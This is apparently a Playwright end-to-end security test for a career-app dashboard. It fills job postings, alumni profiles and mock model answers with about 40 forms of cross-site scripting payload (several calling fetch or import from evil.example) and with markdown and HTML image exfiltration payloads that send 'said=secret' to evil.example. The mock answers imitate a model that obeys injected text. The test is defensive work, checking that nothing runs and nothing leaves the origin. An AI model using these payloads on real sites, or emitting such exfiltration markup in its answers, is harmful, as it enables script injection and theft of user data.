// Text that would run or tell others if a page let it (S5, S6), in Chromium: 200 forms of scripts in postings, employers, people and what a
// student says, and 500 answers of a model that obeys whoever wrote to it, which try to load or lead elsewhere. Nothing may run, no request
// may leave the origin, and the pages' policy may have nothing to stop.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launchBrowser } from '../../e2e/launch.ts';
import { signedUp } from '../../e2e/student.ts';
import { openTestProvider } from '../../server/testing/provider.testing.ts';
import { modelAt, program, startServer } from './server.ts';

const [scripts, leaks] = [scriptsOf(200), leaksOf(500)];
const perAnswer = 10;
let next = 0;
const provider = await openTestProvider(({ wantsObject }) => {
  if (wantsObject) return { object: {} };
  const text = leaks.slice(next, next + perAnswer).join('\n\n');
  next += perAnswer;
  return { text: [`${text}\n`] };
});
const folder = mkdtempSync(join(tmpdir(), 'alive-trial-'));
const data = join(folder, 'data');
const server = await startServer({ folder: data }, modelAt(provider.address));
importAll();
const browser = await launchBrowser();
const context = await browser.newContext();
const found = { ran: 0, left: [] as string[], stopped: [] as string[] };
await context.exposeBinding('ran', () => void found.ran++);
await context.addInitScript(() => {
  for (const name of ['alert', 'confirm', 'prompt', 'print'] as const)
    Object.assign(window, { [name]: () => Reflect.get(window, 'ran')() });
  document.addEventListener('securitypolicyviolation', ({ blockedURI, violatedDirective }) =>
    console.error(`policy: ${violatedDirective} ${blockedURI}`),
  );
});
const page = await signedUp(await context.newPage(), server.url, {
  firstName: scripts[0],
  lastName: scripts[1],
  school: scripts[2],
  major: scripts[3],
});
page.on('dialog', (dialog) => {
  found.ran++;
  void dialog.dismiss();
});
page.on('console', (message) => {
  if (message.text().startsWith('policy:')) found.stopped.push(message.text());
});
context.on('request', (request) => {
  if (!request.url().startsWith(server.url) && !/^(data|blob):/.test(request.url())) found.left.push(request.url());
});

const jobs = await readJobs(page);
const people = await readPeople(page);
const answers = await readAnswers(page);
console.log(
  `hostile pages: ${jobs} postings and ${people} people with ${scripts.length} forms of scripts, ${answers} hostile parts of answers in Chromium; ran ${found.ran}, requests elsewhere ${found.left.length}, stopped by the policy ${found.stopped.length}`,
);
for (const line of new Set([...found.left, ...found.stopped])) console.log(`  ${line}`);
await browser.close();
await server.stop();
await provider.close();
rmSync(folder, { recursive: true, force: true });
process.exitCode = found.ran + found.left.length + found.stopped.length === 0 && jobs > 0 && people > 0 && answers >= leaks.length ? 0 : 1;

/** Every posting of the list, opened with its text. */
async function readJobs(at: Page): Promise<number> {
  const { jobs: listed } = (await (await server.request('/api/jobs-real/search?limit=100')).json()) as { jobs: { id: string }[] };
  const more = (await (await server.request('/api/jobs-real/search?limit=100&offset=100')).json()) as { jobs: { id: string }[] };
  const all = [...listed, ...more.jobs];
  for (const { id } of all) {
    await at.goto(`${server.url}/dashboard/jobs/${encodeURIComponent(id)}`);
    await at.getByText('Zyxwv').first().waitFor();
  }
  return all.length;
}

async function readPeople(at: Page): Promise<number> {
  await at.goto(`${server.url}/dashboard/people`);
  await at.getByRole('textbox').first().fill('people in marketing');
  await at.keyboard.press('Enter');
  await at.getByText('Zyxwv').first().waitFor();
  await at.waitForTimeout(3000);
  return at.getByText('Zyxwv').count();
}

/** Chats until every hostile part of an answer stood on the page. */
async function readAnswers(at: Page): Promise<number> {
  await at.goto(`${server.url}/dashboard`);
  let seen = 0;
  while (next < leaks.length) {
    const before = next;
    const box = at.getByRole('textbox').first();
    await box.fill(`${scripts[seen % scripts.length]} what would suit me?`);
    await box.press('Enter');
    await at.waitForTimeout(1200);
    if (next > before) seen += next - before;
    else if (++seen > leaks.length * 2) break;
  }
  return Math.min(next, leaks.length);
}

function importAll(): void {
  const rows = scripts.map((script, at) => ({
    id: `job-${at}`,
    title: `Marketing Intern Zyxwv ${script}`,
    company: `Zyxwv ${script}`,
    url: `https://jobs.example/${at}?${script}`,
    location: `New York, NY`,
    description: `Zyxwv ${script}\n\n- ${script}\n\n${leaks[at] ?? ''}\n\nYou need marketing. ${script}`,
    level: 'internship',
  }));
  const persons = scripts.map((script, at) => ({
    name: `Zyxwv ${at} ${script}`,
    role: `Marketing Manager`,
    company: `Zyxwv ${script}`,
    linkedin: `https://linkedin.com/in/zyxwv-${at}`,
    photo: `https://evil.example/${at}.png`,
    year: 2016,
    major: script,
    hometown: `Boston ${script}`,
    career_path: `Marketing Manager ${script} at Zyxwv [2018 - Present] Boston: ${script}`,
    about: script,
    visibility: 'shown',
  }));
  for (const [kind, content] of [
    ['jobs', rows],
    ['alumni', persons],
  ] as const) {
    const file = join(folder, `${kind}.json`);
    writeFileSync(file, JSON.stringify(content));
    const { status, stdout, stderr } = spawnSync(process.execPath, [program.replace('main.ts', 'cli.ts'), 'import', kind, file], {
      env: { PATH: process.env['PATH'], DATA_DIR: data },
      encoding: 'utf8',
    });
    if (status !== 0) throw new Error(`${kind} were not imported: ${stdout}${stderr}`);
  }
}

/** Scripts in every guise (OWASP, Cross Site Scripting Prevention; Heiderich, mXSS, 2013). */
function scriptsOf(most: number): string[] {
  const call = ['ran()', 'alert(1)', 'fetch(`//evil.example`)', 'top[`ran`]()', 'import(`//evil.example/x.js`)'];
  const shapes: ((js: string) => string)[] = [
    (js) => `<script>${js}</script>`,
    (js) => `<ScRiPt >${js}</sCrIpT>`,
    (js) => `</textarea></title><script>${js}</script>`,
    (js) => `<img src=x onerror=${js}>`,
    (js) => `<img src="x" onerror="${js}"//`,
    (js) => `<svg onload=${js}>`,
    (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
    (js) => `<svg><script href="data:text/javascript,${js}"/>`,
    (js) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
    (js) => `<a href="javascript:${js}">Apply</a>`,
    (js) => `[Apply](javascript:${js})`,
    (js) => `[Apply](JaVaScRiPt&colon;${js})`,
    (js) => `[Apply](\u0001javascript:${js})`,
    (js) => `[a]: javascript:${js}\n\n[Apply][a]`,
    (js) => `<javascript:${js}>`,
    (js) => `![x](data:text/html,<script>${js}</script>)`,
    (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
    (js) => `<iframe src="javascript:${js}"></iframe>`,
    (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
    (js) => `<embed src="javascript:${js}">`,
    (js) => `<form action="javascript:${js}"><button>Go</button></form>`,
    (js) => `<button formaction="javascript:${js}">Go</button>`,
    (js) => `<details open ontoggle=${js}>`,
    (js) => `<input autofocus onfocus=${js}>`,
    (js) => `<video><source onerror=${js}></video>`,
    (js) => `<body onload=${js}>`,
    (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
    (js) => `<link rel=stylesheet href="javascript:${js}">`,
    (js) => `<style>@import "javascript:${js}";*{background:url(javascript:${js})}</style>`,
    (js) => `<div style="width:expression(${js})">`,
    (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
    (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
    (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
    (js) => `\`\`\`<img src=x onerror=${js}>\`\`\``,
    (js) => `{{constructor.constructor('${js}')()}}`,
    (js) => `\${${js}}`,
    (js) => `"><img src=x onerror=${js}>`,
    (js) => `' onmouseover='${js}' autofocus onfocus='${js}`,
  ];
  return shapes.flatMap((shape) => call.map(shape)).slice(0, most);
}

/** What would tell another server something, were it loaded. */
function leaksOf(most: number): string[] {
  const to = (at: number) => `//evil.example/${at}?said=secret`;
  const shapes: ((at: number) => string)[] = [
    (at) => `![x](https:${to(at)})`,
    (at) => `![x][r${at}]\n\n[r${at}]: https:${to(at)}`,
    (at) => `<img src="https:${to(at)}">`,
    (at) => `<img srcset="https:${to(at)} 2x">`,
    (at) => `<link rel=prefetch href="https:${to(at)}">`,
    (at) => `<link rel=dns-prefetch href="${to(at)}">`,
    (at) => `<style>*{background:url(https:${to(at)})}</style>`,
    (at) => `<div style="background:url(https:${to(at)})">x</div>`,
    (at) => `<audio src="https:${to(at)}" autoplay></audio>`,
    (at) => `<iframe src="https:${to(at)}"></iframe>`,
    (at) => `<object data="https:${to(at)}"></object>`,
    (at) => `<meta http-equiv=refresh content="0;url=https:${to(at)}">`,
    (at) => `<base href="https:${to(at)}">`,
    (at) => `<form action="https:${to(at)}"><input autofocus></form>`,
    (at) => `[the job](https:${to(at)})`,
    (at) => `https:${to(at)}`,
    (at) => `<https:${to(at)}>`,
    (at) => `![x](/api/logos/evil.example?x=${at})`,
    (at) => `<svg><image href="https:${to(at)}"/></svg>`,
    (at) => `<video poster="https:${to(at)}"></video>`,
  ];
  return Array.from({ length: most }, (_, at) => shapes[at % shapes.length]?.(at) ?? '');
}

type Page = Awaited<ReturnType<typeof context.newPage>>;
